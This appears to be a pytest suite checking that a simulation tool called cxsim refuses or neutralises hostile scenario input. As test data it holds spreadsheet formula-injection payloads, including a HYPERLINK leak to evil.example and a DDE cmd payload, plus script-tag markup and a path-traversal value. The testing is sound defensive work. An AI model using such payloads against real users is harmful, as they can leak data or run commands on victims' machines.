"""Hostile input (issue 18): every case gives one located message and exit 2, or a sound result.

Most cases run in-process; a subprocess only where the process is the point (two writers at
once, SIGTERM, exit codes).
"""

from __future__ import annotations

import json
import math
import os
import random
import re
import shutil
import signal
import subprocess
import sys
import time
import warnings
import zipfile
from pathlib import Path
from typing import Any

import pytest
import yaml
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

import cxsim
from cxsim.analysis.retention import MAX_PERIODS, fit_sbg
from cxsim.analysis.sensitivity.sobol import check_sobol_size
from cxsim.engine.execution import blocks_of, chunks
from cxsim.errors import ScenarioError, ScenarioWarning, UserError
from cxsim.model.yamlread import MAX_NODES, parse_yaml
from cxsim.outputs import report
from cxsim.outputs.files import MANIFEST, check_free, staged_folder
from cxsim.outputs.words import md_text, summary_markdown
from cxsim.outputs.workbook import write_workbook

from .conftest import ROOT, SCENARIOS, SHARED_REPORTS, TINY

# TINY with two uncertain inputs, so the report has a tornado to draw
UNCERTAIN = TINY.replace(
    "complaint_rate: 0.5", "complaint_rate: {dist: uniform, low: 0.4, high: 0.6}"
).replace("deterred: 0.02", "deterred: {dist: uniform, low: 0.01, high: 0.03}")
CLI = [sys.executable, "-m", "cxsim"]


def refused(text: str, *expected: str, overrides: tuple[str, ...] = ()) -> str:
    """The message of a scenario that must be refused; each of `expected` is in it."""
    with pytest.raises(ScenarioError) as info:
        cxsim.loads(text, "hostile.yaml", overrides)
    message = str(info.value)
    for part in expected:
        assert part in message, message
    return message


# --- 1. no formula injection, no markdown injection ---

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    '=WEBSERVICE("http://evil.example/")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
]


def injected() -> cxsim.Scenario:
    data = yaml.safe_load(UNCERTAIN)
    data["economics"]["value"] = "margin"  # business cases net costs against margin
    data["name"] = FORMULAS[0]
    data["description"] = FORMULAS[1]
    data["segments"][0]["name"] = FORMULAS[2]
    data["journey"]["stages"][1]["touchpoints"][0]["name"] = FORMULAS[3]
    data["journey"]["stages"][1]["name"] = FORMULAS[4]
    data["interventions"] = [
        {
            "name": FORMULAS[5],
            "description": FORMULAS[0],
            "effects": [{"path": "loss_tree.complaint_rate", "scale": 1.1}],
            "costs": {"one_off": 1000},
        }
    ]
    return cxsim.validate(data, "injected.yaml")


def test_workbook_text_is_never_a_formula(tmp_path: Path) -> None:
    scenario = injected()
    comparison = cxsim.compare(scenario, runs=8, seed=1)
    path = tmp_path / "book.xlsx"
    write_workbook(path, comparison.baseline, comparison)
    texts = set()
    for ws in load_workbook(path).worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "f":  # cxsim's own formulas: cell references, no user text
                    assert not any(f[1:] in str(cell.value) for f in FORMULAS if len(f) > 6)
                    continue
                if isinstance(cell.value, str):
                    texts.add(cell.value)
                    if cell.value.startswith(("=", "+", "-", "@")):
                        assert cell.quotePrefix, cell.value  # stays text when edited, too
    assert set(FORMULAS) - {FORMULAS[1]} <= texts  # readable: each shows as itself
    # (the scenario's description is not in the workbook; an intervention's is)
    with zipfile.ZipFile(path) as book:  # no user text inside any formula element
        for name in book.namelist():
            if name.startswith("xl/worksheets/"):
                for formula in re.findall(rb"<f>(.*?)</f>", book.read(name)):
                    assert b"evil" not in formula and b"cmd|" not in formula, formula


def test_workbook_comments_used_as_sources_are_text(tmp_path: Path) -> None:
    text = UNCERTAIN.replace(
        "complaint_rate: {dist", 'complaint_rate:   # =WEBSERVICE("http://e/")\n    {dist', 1
    )
    path = tmp_path / "s.yaml"
    path.write_text(text)
    scenario, source = cxsim.load_with_source(path)
    book = tmp_path / "book.xlsx"
    write_workbook(book, cxsim.expected(scenario, source=source))
    ws = load_workbook(book)["Inputs"]
    rows = list(ws.iter_rows())
    start = next(i for i, r in enumerate(rows) if str(r[-1].value or "").startswith("Source"))
    sources = [row[-1] for row in rows[start + 1 :] if row[-1].value]
    assert {c.value for c in sources} == {'=WEBSERVICE("http://e/")'}
    assert all(c.data_type == "s" and c.quotePrefix for c in sources)


@pytest.mark.parametrize("where", ["name", "segments.0.name", "description", "stage", "cause"])
@pytest.mark.parametrize("char", ["\x07", "\x1b", "\x00", "\u202e", "\x7f"])
def test_control_characters_are_refused_where_they_are(where: str, char: str) -> None:
    data = yaml.safe_load(UNCERTAIN)
    value = f"a{char}b"
    if where == "name":
        data["name"] = value
    elif where == "segments.0.name":
        data["segments"][0]["name"] = value
    elif where == "description":
        data["description"] = value
    elif where == "stage":
        data["journey"]["stages"][0]["name"] = value
    else:
        data["journey"]["stages"][1]["touchpoints"][0]["cause"] = value
    with pytest.raises(ScenarioError) as info:
        cxsim.validate(data, "hostile.yaml")
    assert len(info.value.problems) == 1
    assert f"control character U+{ord(char):04X}" in str(info.value)


def test_a_newline_is_refused_in_a_name_but_kept_in_a_description() -> None:
    data = yaml.safe_load(UNCERTAIN)
    data["description"] = "line one\nline two\tand a tab"
    cxsim.validate(data)
    data["journey"]["stages"][0]["touchpoints"][0]["name"] = "Search\n# Heading"
    with pytest.raises(ScenarioError, match=r"touchpoints\[0\]\.name: must not hold .*U\+000A"):
        cxsim.validate(data)


def test_summary_md_escapes_markdown_and_html() -> None:
    evil = "x | y <script>alert(1)</script> ![t](http://e.example/p.png) [l](http://e) *b* # h"
    data = yaml.safe_load(UNCERTAIN)
    data["name"] = "# Not a heading <img src=x>"
    for stage in data["journey"]["stages"]:
        for tp in stage["touchpoints"]:
            tp["name"] = f"{tp['name']} {evil}"
    results = cxsim.expected(cxsim.validate(data))
    md = summary_markdown(results, None, "en")
    assert "<script" not in md and "<img" not in md
    assert "![" not in md and "](http" not in md
    headings = [line for line in md.splitlines() if line.startswith("#")]
    assert len(headings) == 4  # the title and three sections: no heading from a name
    assert headings[0].startswith("# \\# Not a heading &lt;img")
    rows = [line for line in md.splitlines() if line.startswith("| ") and "Search" in line]
    assert rows, md
    for row in rows:  # four cells: only the table's own bars are unescaped
        assert row.replace("\\|", "").count("|") == 5, row
    assert md_text("a\nb\r\nc") == "a b c"


# --- 2. no lost files ---


def files_in(folder: Path) -> list[str]:
    return sorted(p.relative_to(folder).as_posix() for p in folder.rglob("*") if p.is_file())


def finish(proc: subprocess.Popen[str], timeout: float = 300) -> tuple[int, str]:
    """Wait for a process; its exit code and stderr (pipes closed)."""
    _, err = proc.communicate(timeout=timeout)
    return proc.returncode, err


def report_cmd(scenario: Path, out: Path, *extra: str) -> list[str]:
    return [*CLI, "report", str(scenario), "-o", str(out), "--runs", "16", "--seed", "1", *extra]


@pytest.mark.xdist_group("exclusive")
def test_two_reports_into_one_folder_at_once(tmp_path: Path) -> None:
    """Two writers, one folder: one complete report, one clean failure (exit 2, a message)."""
    scenario = tmp_path / "s.yaml"
    scenario.write_text(UNCERTAIN)
    out = tmp_path / "out"
    cmd = report_cmd(scenario, out, "--workers", "1")
    procs = [subprocess.Popen(cmd, stderr=subprocess.PIPE, text=True) for _ in range(2)]
    done = [finish(p) for p in procs]
    codes = sorted(code for code, _ in done)
    assert codes == [0, 2], done
    failure = next(err for code, err in done if code == 2)
    assert "another cxsim" in failure or "is not empty" in failure, failure
    assert "internal error" not in failure and "Traceback" not in failure
    names = [f for f in files_in(out) if f != MANIFEST]
    assert names == sorted(json.loads((out / MANIFEST).read_text())["files"])
    assert {"report.pdf", "workbook.xlsx", "results.json", "summary.md"} <= set(names)
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".")] == []


@pytest.mark.xdist_group("exclusive")
def test_two_runs_into_one_out_at_once(tmp_path: Path) -> None:
    scenario = tmp_path / "s.yaml"
    scenario.write_text(UNCERTAIN)
    out = tmp_path / "out"
    cmd = [*CLI, "run", str(scenario), "--runs", "16", "--workers", "1", "--out", str(out)]
    procs = [subprocess.Popen(cmd, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True)]
    procs.append(
        subprocess.Popen(cmd, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True)
    )
    done = [finish(p) for p in procs]
    assert sorted(code for code, _ in done) == [0, 2], done
    failure = next(err for code, err in done if code == 2)
    assert "overwrite" in failure or "appeared while" in failure, failure
    assert sorted(p.name for p in out.iterdir()) == [MANIFEST, "results.json", "summary.txt"]
    seeds = json.loads((out / "results.json").read_text())["seed"]
    assert str(seeds) in (out / "summary.txt").read_text()  # both files from one run


@pytest.mark.xdist_group("exclusive")
def test_sigterm_while_writing_cleans_up_like_ctrl_c(tmp_path: Path) -> None:
    scenario = tmp_path / "s.yaml"
    scenario.write_text(UNCERTAIN)
    out = tmp_path / "out"
    proc = subprocess.Popen(
        report_cmd(scenario, out, "--workers", "1"), stderr=subprocess.PIPE, text=True
    )
    deadline = time.monotonic() + 120
    while not list(tmp_path.glob(".out.*.part")) and time.monotonic() < deadline:
        time.sleep(0.05)
    assert list(tmp_path.glob(".out.*.part")), "the report never started writing"
    time.sleep(0.3)
    proc.send_signal(signal.SIGTERM)
    code, err = finish(proc, 60)
    assert code == 130, err
    assert "interrupted" in err
    assert sorted(p.name for p in tmp_path.iterdir()) == ["s.yaml"]  # no .part, no lock, no out


@pytest.fixture(scope="module")
def small_results() -> Any:
    return cxsim.simulate(cxsim.loads(UNCERTAIN), runs=8, seed=2)


def test_force_refuses_what_cxsim_did_not_write(tmp_path: Path, small_results: Any) -> None:
    out = tmp_path / "out"
    out.mkdir()
    (out / "report.pdf").mkdir()  # a user's folder named like a report file
    (out / "report.pdf" / "keep.txt").write_text("mine")
    with pytest.raises(UserError, match=r"report\.pdf is in the way"):
        report.write_report(small_results, None, out, force=True)
    (out / "report.pdf" / "keep.txt").unlink()
    (out / "report.pdf").rmdir()
    (out / "summary.md").write_text("the user's own summary")
    with pytest.raises(UserError, match="not written by cxsim"):
        report.write_report(small_results, None, out, force=True)
    assert files_in(out) == ["summary.md"]
    assert (out / "summary.md").read_text() == "the user's own summary"
    assert [p.name for p in tmp_path.iterdir()] == ["out"]


@pytest.mark.xdist_group(SHARED_REPORTS)
def test_force_refuses_a_file_changed_since_cxsim_wrote_it(
    tmp_path: Path, small_results: Any, cli_report: Any
) -> None:
    """A report cxsim wrote (a copy of one `cxsim report` wrote, manifest and all), one of
    whose files the user then edited: --force leaves it as the user made it."""
    out = tmp_path / "out"
    shutil.copytree(cli_report("ecommerce.yaml"), out)
    (out / "summary.md").write_text("edited by hand")
    with pytest.raises(UserError, match="changed since cxsim wrote it"):
        report.write_report(small_results, None, out, force=True)
    assert (out / "summary.md").read_text() == "edited by hand"


def test_output_targets_are_checked_before_work(tmp_path: Path) -> None:
    (tmp_path / "afile").write_text("x")
    real = tmp_path / "real"
    real.mkdir()
    (tmp_path / "link").symlink_to(real)
    with pytest.raises(UserError, match="not a folder"):
        report.check_target(tmp_path / "afile", False)
    with pytest.raises(UserError, match="symbolic link"):
        report.check_target(tmp_path / "link", False)
    with pytest.raises(UserError, match="is not a folder, so"):
        report.check_target(tmp_path / "afile" / "out", False)
    with pytest.raises(UserError, match="symbolic link"):
        check_free([tmp_path / "link" / "results.json"], False)
    (real / "results.json").mkdir()
    with pytest.raises(UserError, match="not a plain file"):
        check_free([real / "results.json"], True)
    (tmp_path / ".out.cxsim-lock").write_text(str(os.getpid()))
    with pytest.raises(UserError, match="another cxsim"):
        report.check_target(tmp_path / "out", False)


@pytest.mark.skipif(os.geteuid() == 0, reason="root writes into read-only folders")
def test_a_read_only_folder_is_refused_before_work(tmp_path: Path) -> None:
    locked = tmp_path / "ro"
    locked.mkdir()
    locked.chmod(0o500)
    try:
        with pytest.raises(UserError, match="cannot write in"):
            report.check_target(locked / "out", False)
    finally:
        locked.chmod(0o700)


def test_cli_refuses_a_linked_report_folder_before_simulating(tmp_path: Path) -> None:
    scenario = tmp_path / "s.yaml"
    scenario.write_text(UNCERTAIN)
    (tmp_path / "real").mkdir()
    (tmp_path / "link").symlink_to(tmp_path / "real")
    start = time.perf_counter()
    done = subprocess.run(
        [*report_cmd(scenario, tmp_path / "link"), "--runs", "10000000"],
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert done.returncode == 2 and "is a symbolic link" in done.stderr, done.stderr
    assert time.perf_counter() - start < 60  # refused before ten million runs


# --- 3. exit 2 instead of an internal error ---


def test_churn_rate_one_and_no_population_are_refused() -> None:
    refused(TINY.replace("rate: 0.02}", "rate: 1}"), "10:12: segments[0].churn: a churn rate of 1")
    empty = TINY.replace("customers: 20000", "customers: 0").replace(
        "prospects: 2000", "prospects: 0"
    )
    refused(empty, "segments: no segment has customers or prospects")


def test_no_revenue_at_all_still_prints_a_summary() -> None:
    results = cxsim.simulate(cxsim.loads(TINY.replace("revenue: 10", "revenue: 0")), runs=4, seed=1)
    assert "Lost revenue" in results.text()


def test_correlations_that_contradict_each_other_or_self() -> None:
    base = UNCERTAIN.replace("referred: 0.02", "referred: {dist: uniform, low: 0.01, high: 0.03}")
    wom = "loss_tree.word_of_mouth"
    bad = base + (
        "correlations:\n"
        f"  - {{between: [loss_tree.complaint_rate, {wom}.deterred], rho: 0.99}}\n"
        f"  - {{between: [loss_tree.complaint_rate, {wom}.referred], rho: 0.99}}\n"
        f"  - {{between: [{wom}.deterred, {wom}.referred], rho: -0.99}}\n"
    )
    refused(bad, "correlations: these correlations contradict each other")
    itself = base + (
        "correlations:\n  - {between: [loss_tree.complaint_rate, loss_tree.complaint_rate], "
        "rho: 0.5}\n"
    )
    refused(itself, "correlations[0].between: correlates 'loss_tree.complaint_rate' with itself")


@pytest.mark.parametrize(
    ("path", "amount"),
    [
        ("loss_tree.word_of_mouth.told.dissatisfied", -20),
        ("loss_tree.word_of_mouth.deterred", -0.5),
        ("segments[0].prospects", -5000),
        ("segments[0].revenue", -11),
    ],
)
def test_an_effect_pushing_a_count_out_of_range_is_refused(path: str, amount: float) -> None:
    text = TINY + (
        f"interventions:\n  - name: bad\n    effects:\n      - {{path: '{path}', add: {amount}}}\n"
    )
    message = refused(text, "interventions[0].effects[0].add: would take", "refused")
    assert message.startswith("hostile.yaml:")


def test_a_probability_pushed_past_one_is_clipped_below_zero_refused() -> None:
    above = TINY.replace("value: revenue", "value: margin") + (
        "interventions:\n  - name: more complaints\n    effects:\n"
        "      - {path: loss_tree.complaint_rate, scale: 3}\n"
    )
    with pytest.warns(ScenarioWarning, match="clipped to 1"):  # said, then clipped where drawn
        scenario = cxsim.loads(above)
    cxsim.compare(scenario, runs=8, seed=1)
    below = above.replace("scale: 3", "add: -0.6")
    refused(below, "effects[0].add: would take loss_tree.complaint_rate to -0.1..-0.1")


@pytest.mark.parametrize(
    ("item", "expected"),
    [
        ("segments.².customers=5", "--set: segments.².customers: no element named '²'"),
        ("foo.bar=5", "--set foo.bar=5: foo: unknown key 'foo'"),
        ("segments[0].customers=.nan", "must be a finite number"),
        ("economics.horizon=6:00", "economics.horizon: must be a number, got '6:00'"),
    ],
)
def test_set_problems_are_blamed_on_the_set(item: str, expected: str) -> None:
    message = refused(TINY, expected, overrides=(item,))
    assert "hostile.yaml:1" not in message


# --- 4. wrong results with exit 0 ----------------------------------------------------------------


def test_a_distribution_with_no_mass_in_range_is_refused() -> None:
    refused(
        TINY.replace("complaint_rate: 0.5", "complaint_rate: {dist: normal, mean: 5, sd: 0.1}"),
        "loss_tree.complaint_rate: normal(mean=5, sd=0.1) puts 0.00% of its values",
    )
    cxsim.loads(
        TINY.replace("complaint_rate: 0.5", "complaint_rate: {dist: normal, mean: 0.9, sd: 0.2}")
    )


def test_yaml_1_2_numbers() -> None:
    data, _ = parse_yaml(
        "a: [6:00, 010, 1e6, 2.5e-3, 250_000, 0x1F, 0o17, yes, no, on, true, 2024-01-01]", "x"
    )
    assert data["a"] == [
        "6:00",
        10,
        1e6,
        0.0025,
        250000,
        31,
        15,
        "yes",
        "no",
        "on",
        True,
        "2024-01-01",
    ]
    refused(
        TINY.replace("revenue: 10", "revenue: 6:00"),
        "segments[0].revenue: must be a number, got '6:00'",
    )
    lifetime = TINY.replace("value: revenue}", "value: revenue, lifetime: no, discount_rate: 0.1}")
    assert cxsim.loads(lifetime.replace("discount_rate: 0.0, ", "")).economics.lifetime is False


#: Characters that matter to YAML readers, and some that look alike to them.
MANGLE = " \t\n\r:-#'\"[]{},&*!|>%@`?0123456789.eE+_x\u3042\ufeff\u00a0\u2028"


#: Where the two part: libyaml alone reads these, or places a value a column further on (an
#: empty one, and one after a byte-order mark).
PARTED = [
    "a: {b: p?ert, c: 1}\n",
    "a: [!, 12]\n",
    "a: {b: 1,\t c: 2}\n",
    "a: 1\t\nb: 2\n",
    "a: {b: x\ufeffy, c: 1}\n",
    "a: {b: , c: 1}\n",
]


def _mangled(texts: list[str], n: int, seed: int) -> list[str]:
    """`n` texts, each one of `texts` with one to four characters inserted, cut or replaced."""
    rng = random.Random(seed)
    out = []
    for _ in range(n):
        chars = list(rng.choice(texts))
        for _ in range(rng.randint(1, 4)):
            at, what = rng.randrange(len(chars)), rng.random()
            if what < 0.4:
                chars.insert(at, rng.choice(MANGLE))
            elif what < 0.7:
                del chars[at]
            else:
                chars[at] = rng.choice(MANGLE)
        out.append("".join(chars))
    return out


def _outcome(text: str) -> tuple[Any, ...]:
    try:
        data, marks = parse_yaml(text, "s.yaml")
    except ScenarioError as exc:
        return ("refused", str(exc))
    return ("read", repr(data), marks)


def test_libyaml_reads_as_pyyaml_would(monkeypatch: pytest.MonkeyPatch) -> None:
    """Scenarios are read by libyaml (C) where it reads them as PyYAML would: the same data,
    the same line and column for every value, the same message for a broken file. Checked on
    400 mangled pieces of the examples against PyYAML alone, and on a case of each kind where
    the two part."""
    import cxsim.model.yamlread as yamlread

    pieces = [  # each top-level key of an example with what it holds: a small document
        piece
        for path in SCENARIOS
        for piece in re.split(r"\n(?=[a-z])", path.read_text(encoding="utf-8"))
    ]
    texts = [*_mangled(pieces, 400, seed=1), *PARTED, "\ufeff" + TINY.replace("\n", "\r\n")]
    fast = [_outcome(t) for t in texts]
    monkeypatch.setattr(yamlread, "_FastLoader", None)  # PyYAML's reading alone
    slow = [_outcome(t) for t in texts]
    unlike = [(t, f, s) for t, f, s in zip(texts, fast, slow, strict=True) if f != s]
    assert not unlike, unlike[0]
    assert 0.5 < sum(f[0] == "read" for f in fast) / len(fast) < 0.95  # both kinds are checked


@pytest.mark.parametrize("value", [".nan", ".NaN", ".inf", "-.inf", ".Inf"])
def test_nan_and_infinity_are_refused(value: str) -> None:
    refused(TINY.replace("revenue: 10", f"revenue: {value}"), "segments[0].revenue: must be")
    refused(
        TINY.replace("conversion: 0.5", f"conversion: {{dist: normal, mean: 0.5, sd: {value}}}")
    )


# --- 5. bounds before work starts ---


@pytest.mark.xdist_group("exclusive")
def test_a_huge_flow_list_is_refused_fast_with_the_right_message(tmp_path: Path) -> None:
    path = tmp_path / "big.yaml"
    path.write_text("values: [" + ",".join(["100"] * 1_200_000) + "]\n")  # 4.8 MB
    start = time.perf_counter()
    with pytest.raises(ScenarioError, match=f"1,200,000 lines and commas: .* {MAX_NODES:,} values"):
        cxsim.load(path)
    assert time.perf_counter() - start < 2
    path.write_text("values: [" + ",".join(["[1, 2]"] * 70_000) + "]\n")  # few commas, many values
    with pytest.raises(ScenarioError, match=f"more than {MAX_NODES:,} values; a scenario"):
        cxsim.load(path)  # counted while composing, stopped at the limit


@pytest.mark.parametrize(
    "text",
    [
        # few lines and commas (the cheaper bound passes them), many values
        "values: " + "[" * 60 + "]" * 60 + "\n",
        "- " * 60 + "x\n",
        "base: &b {a: 1}\nrefs: " + "[*b, " * 30 + "x" + "]" * 30 + "\n",
        "名前: " + "{配送遅延: " * 30 + "返品" + "}" * 30 + "\n",
    ],
    ids=["flow", "block", "aliases", "japanese"],
)
def test_the_value_count_in_c_stops_where_the_composer_would(
    text: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """libyaml counts the values before PyYAML composes them (12 s for 200,000 in Python):
    it must refuse at the value, and name the place, that the composer's own count does."""
    import cxsim.model.yamlread as yamlread

    monkeypatch.setattr(yamlread, "MAX_NODES", 50)
    with pytest.raises(yamlread._TooBig) as counted:  # libyaml's count alone
        yamlread._count_values(text)
    monkeypatch.setattr(yaml, "__with_libyaml__", False)  # PyYAML's composer alone
    with pytest.raises(ScenarioError, match="more than 50 values") as composed:
        parse_yaml(text, "s.yaml")
    where = f"s.yaml:{counted.value.line}:{counted.value.column}: document has more than 50"
    assert str(composed.value).startswith(where)


def test_too_many_touchpoints_are_refused_with_a_message() -> None:
    data = yaml.safe_load(TINY)
    data["economics"]["horizon"] = 36
    tp = data["journey"]["stages"][1]["touchpoints"][0]
    data["journey"]["stages"][1]["touchpoints"] = [{**tp, "name": f"t{i}"} for i in range(10_000)]
    with pytest.raises(ScenarioError, match="10,001 touchpoints x 1 segments x 36 periods"):
        cxsim.validate(data)


@pytest.mark.xdist_group("exclusive")
def test_chunks_are_made_lazily() -> None:
    start = time.perf_counter()
    c = chunks(10**12)
    assert len(c) == 3_906_250_000 and c[-1] == (3_906_249_999, 256)
    b = blocks_of(10**12, 1000)
    assert b[1] == [(4, 256), (5, 256), (6, 256), (7, 256)]
    assert list(blocks_of(1000, 600)) == [[(0, 256), (1, 256), (2, 256)], [(3, 232)]]
    assert time.perf_counter() - start < 1


def test_retention_and_sobol_bounds() -> None:
    fit = fit_sbg([0, 1, 2, 3], [1000, 800, 700, 640])
    with pytest.raises(UserError, match="periods must be between 0 and 1,200"):
        fit.to_dict(periods=10**8)
    with pytest.raises(UserError, match="periods must be"):
        fit.project(range(10**8))
    assert len(fit.project(range(MAX_PERIODS))) == MAX_PERIODS
    with pytest.raises(UserError, match="discount must be a finite number"):
        fit.derl(math.nan)
    with pytest.raises(UserError, match="use at most 65,536 samples"):
        check_sobol_size(1 << 20, 29, 999, 0.95)
    with pytest.raises(UserError, match="confidence"):
        check_sobol_size(1024, 3, 999, math.nan)


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no FIFOs here")
def test_an_interventions_file_naming_a_fifo_does_not_hang(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "pipe")
    (tmp_path / "iv.yaml").write_text("scenario: pipe\ninterventions: []\n")
    with pytest.raises(ScenarioError, match="pipe: not a regular file"):
        cxsim.load(tmp_path / "iv.yaml")


# --- 6. an interventions file's scenario ---


def test_an_interventions_file_cannot_reach_outside_its_folder(tmp_path: Path) -> None:
    (tmp_path / "secret").mkdir()
    (tmp_path / "secret" / "x.yaml").write_text(TINY)
    (tmp_path / "a" / "b").mkdir(parents=True)
    iv = tmp_path / "a" / "b" / "iv.yaml"
    iv.write_text("scenario: ../../secret/x.yaml\ninterventions: []\n")
    with pytest.raises(ScenarioError, match=r"iv.yaml:1:11: scenario: .* lies outside"):
        cxsim.load(iv)
    (tmp_path / "a" / "b" / "x.yaml").symlink_to(tmp_path / "secret" / "x.yaml")
    iv.write_text("scenario: x.yaml\ninterventions: []\n")
    with pytest.raises(ScenarioError, match="lies outside"):
        cxsim.load(iv)
    iv.write_text(f"scenario: {tmp_path / 'secret' / 'x.yaml'}\ninterventions: []\n")
    with pytest.raises(ScenarioError, match="lies outside"):
        cxsim.load(iv)
    (tmp_path / "a" / "shop.yaml").write_text(TINY)  # one level up, as in scenarios/: fine
    iv.write_text("scenario: ../shop.yaml\ninterventions: []\n")
    assert cxsim.load(iv).name == "Tiny shop"


def test_a_non_scenario_is_not_echoed(tmp_path: Path) -> None:
    (tmp_path / "creds.yaml").write_text("password: hunter2\napi_key: s3cr3t\n")
    (tmp_path / "iv.yaml").write_text("scenario: creds.yaml\ninterventions: []\n")
    with pytest.raises(ScenarioError) as info:
        cxsim.load(tmp_path / "iv.yaml")
    message = str(info.value)
    assert "is not a cxsim scenario" in message
    assert "password" not in message and "hunter2" not in message and "api_key" not in message


def test_the_scenario_text_is_kept_only_when_it_is_a_scenario(tmp_path: Path) -> None:
    (tmp_path / "s.yaml").write_text(TINY)
    (tmp_path / "iv.yaml").write_text(
        "scenario: s.yaml\ninterventions:\n  - {name: x, effects: [{path: loss_tree.complaint_rate,"
        " scale: 1.1}]}\n"
    )
    _, source = cxsim.load_with_source(tmp_path / "iv.yaml")
    assert "Tiny shop" in source.text


# --- 7. every scenario field, hostile values ---


def leaves(node: Any, loc: tuple[Any, ...] = ()) -> list[tuple[Any, ...]]:
    if isinstance(node, dict):
        return [loc] + [p for k, v in node.items() for p in leaves(v, (*loc, k))]
    if isinstance(node, list):
        return [loc] + [p for i, v in enumerate(node) for p in leaves(v, (*loc, i))]
    return [loc]


def with_value(data: Any, loc: tuple[Any, ...], value: Any) -> Any:
    if not loc:
        return value
    copy = dict(data) if isinstance(data, dict) else list(data)
    copy[loc[0]] = with_value(data[loc[0]], loc[1:], value)
    return copy


FULL = TINY + (
    "memory: {odds_ratio: [1.0, 3.0, 7.0]}\n"
    "correlations: []\n"
    "interventions:\n"
    "  - name: Fix\n    description: d\n    start: 2\n    ramp_up: 2\n"
    "    effects:\n"
    "      - {path: loss_tree.complaint_rate, scale: {dist: pert, low: 1, mode: 1.2, high: 1.4}}\n"
    "    costs: {one_off: 100, per_period: 10, per_customer: 0.01}\n"
)
BASES = {"full": yaml.safe_load(FULL)} | {
    p.stem: yaml.safe_load(p.read_text(encoding="utf-8"))
    for p in sorted((ROOT / "scenarios").glob("*.yaml"))
}
PLACES = [(name, loc) for name, data in BASES.items() for loc in leaves(data)]
HOSTILE = st.one_of(
    st.sampled_from(
        [math.nan, math.inf, -math.inf, -1, -1e308, 1e308, 10**30, 0, "", " ", [], {}, None]
    ),
    st.sampled_from(
        ["ｎａｎ", "١٢٣", "∞", "1e999", "\u202e12", "²", "6:00", "0x1F", "🚚", "a\x07"]
    ),
    st.text(max_size=8),
    st.floats(allow_nan=True, allow_infinity=True),
)


@settings(
    max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow], derandomize=True
)
@given(st.sampled_from(PLACES), HOSTILE)
def test_any_field_with_a_hostile_value_is_refused_or_sound(
    place: tuple[str, tuple[Any, ...]], value: Any
) -> None:
    name, loc = place
    data = with_value(BASES[name], loc, value)
    try:
        text = yaml.dump(data, Dumper=yaml.CSafeDumper, allow_unicode=True, sort_keys=False)
    except yaml.YAMLError:
        return
    try:
        with warnings.catch_warnings():  # a likely mistake may be said: that is sound too
            warnings.simplefilter("ignore", ScenarioWarning)
            scenario = cxsim.loads(text, "fuzz.yaml")
    except ScenarioError as exc:
        for problem in exc.problems:
            assert problem.source == "fuzz.yaml" and problem.line is not None, str(exc)
        return
    for _, dist in cxsim.model.paths.iter_inputs(scenario):
        assert math.isfinite(dist.mean())
    if name == "full":
        try:
            results = cxsim.expected(scenario)
        except UserError:
            return
        assert math.isfinite(results.stats("lost_revenue")["mean"])
        results.text()


@pytest.mark.parametrize(
    "change",
    [("customers: 20000", "customers: 0"), ("revenue: 10", "revenue: 0"), ("0.05}", "0.0}")],
)
def test_odd_scenarios_raise_no_python_warnings(tmp_path: Path, change: tuple[str, str]) -> None:
    """RuntimeWarning or UserWarning lines must not reach the user's terminal."""
    from cxsim.outputs import charts

    scenario = cxsim.loads(UNCERTAIN.replace(*change))
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        results = cxsim.simulate(scenario, runs=8, seed=1, workers=1)
        results.text()
        results.indicators()
        summary_markdown(results, None, "en")
        write_workbook(tmp_path / "book.xlsx", results)
        charts.all_charts(results, None, language="en")


def test_a_folder_filled_while_writing_is_not_replaced(tmp_path: Path) -> None:
    out = tmp_path / "out"
    with pytest.raises(UserError, match="is not empty"), staged_folder(out, False) as tmp:
        (tmp / "ours.txt").write_text("ours")
        out.mkdir()
        (out / "theirs.txt").write_text("theirs")
    assert files_in(tmp_path) == ["out/theirs.txt"]  # no staging folder, no lock left


def test_run_out_force_replaces_only_what_cxsim_wrote(tmp_path: Path) -> None:
    from cxsim.outputs.files import write_text

    mine = tmp_path / "results.json"
    mine.write_text("the user's own")
    with pytest.raises(UserError, match="not written by cxsim"):
        check_free([mine], force=True)
    ours = tmp_path / "summary.txt"
    write_text(ours, "cxsim's", replace=False)
    check_free([ours], force=True)  # cxsim's own, unchanged: may be replaced
    ours.write_text("edited")
    with pytest.raises(UserError, match="changed since cxsim wrote it"):
        check_free([ours], force=True)
    with pytest.raises(UserError, match="appeared while cxsim ran"):
        write_text(ours, "again", replace=False)
    assert ours.read_text() == "edited" and mine.read_text() == "the user's own"
